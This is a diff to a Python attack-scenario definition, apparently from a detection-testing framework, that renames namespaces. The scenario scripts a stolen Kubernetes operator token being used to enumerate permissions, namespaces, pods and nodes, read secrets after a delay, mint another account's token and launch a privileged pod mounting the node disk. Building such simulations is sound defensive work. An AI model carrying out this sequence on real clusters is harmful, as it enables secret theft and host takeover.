@@ -17,7 +17,7 @@ CARD = base.Card(
     subtlety=base.Subtlety.OBVIOUS,
     does=(
         "Uses the token of the database operator from a rented machine: asks what it may do, looks round within its "
-        "rights, comes back after half an hour for the ledger's secrets, mints a token for another account, uses it, "
+        "rights, comes back after half an hour for the cashbook's secrets, mints a token for another account, uses it, "
         "and starts a privileged pod that mounts the node's disk."
     ),
     seen_by=(
@@ -32,7 +32,7 @@ CARD = base.Card(
 )
 """What a reader should know before it is run."""
 
-TARGET = "ledger"
+TARGET = "cashbook"
 """The namespace with the money."""
 
 
@@ -49,7 +49,7 @@ def script(ctx: context.AttackContext) -> base.Script:
     }
     yield thief.create("/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", rules)
     yield thief.get("/api/v1/namespaces", {"limit": 500})
-    for namespace in (TARGET, "loyalty", "insights"):
+    for namespace in (TARGET, "loyalty", "dataworks"):
         yield thief.get(paths.core("pods", namespace), {"limit": 500})
     yield thief.get("/api/v1/nodes", {"limit": 500})
     found = yield thief.get(paths.core("secrets", TARGET), {"limit": 500}, after_s=ctx.rng.uniform(1700, 2300))
